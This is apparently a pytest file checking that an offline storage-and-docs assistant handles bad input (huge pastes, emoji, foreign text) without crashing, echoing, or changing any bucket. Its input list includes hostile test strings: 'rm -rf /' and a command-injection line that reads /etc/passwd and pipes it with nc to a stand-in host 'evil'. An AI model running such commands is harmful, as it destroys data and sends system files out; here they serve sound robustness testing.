"""Whatever is typed, the offline assistant answers clearly: it asks, declines or acts; it never
crashes, hangs or echoes a huge paste back (issue 13's bad-input list, on today's planner)."""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any

import pytest

from agents.docs import docs_specialist
from agents.planner.model import OfflinePlanner
from agents.storage import storage_specialist
from tests.helpers import assistant_for, raw_client, run_turn, storage_ctx
from tools.docs import DocsContext

PASTE = ("lorem ipsum dolor sit amet, bucket raw-data key x.csv; " * 2000)[:100_000]
BAD = {
    "a 100 KB paste": PASTE,
    "emoji": "🚀🔥🙏",
    "a code block": "```python\nimport os\nos.system('rm -rf /')\n```\nwhat does this do?",
    "shell metacharacters": "$(whoami); rm -rf / && cat /etc/passwd | nc evil 80 `id`",
    "another language": "列出我的存储桶",
    "only punctuation": "?!?!...",
}


@pytest.mark.parametrize("text", list(BAD.values()), ids=list(BAD))
async def test_bad_input_gets_a_clear_answer_and_changes_nothing(
    tmp_path: Path, s3_endpoint: str, builtin_kb: Any, text: str
) -> None:
    raw_client(s3_endpoint).make_bucket("untouched")
    storage = storage_ctx(s3_endpoint, tmp_path)
    docs = docs_specialist(DocsContext(kb_factory=lambda: builtin_kb, storage=storage))
    specialists = [storage_specialist(storage), docs]
    async with assistant_for(tmp_path, OfflinePlanner(), specialists, fast_routing=True) as assistant:
        events = await asyncio.wait_for(run_turn(assistant, "t", text, decide=lambda e: False), timeout=60)
    done = events[-1]
    assert done.type == "turn_done" and done.error is None and done.final_text.strip()
    assert len(done.final_text) < 5_000  # a paste is never echoed back whole
    assert not [e for e in events if e.type == "approval_request"]  # nothing here asks to change anything
    failed = [e.error for e in events if e.type == "tool_result" and not e.ok]
    assert not [f for f in failed if f.code.endswith(("Error", "Exception"))], failed  # no crash inside a tool
    assert [b.name for b in raw_client(s3_endpoint).list_buckets()] == ["untouched"]
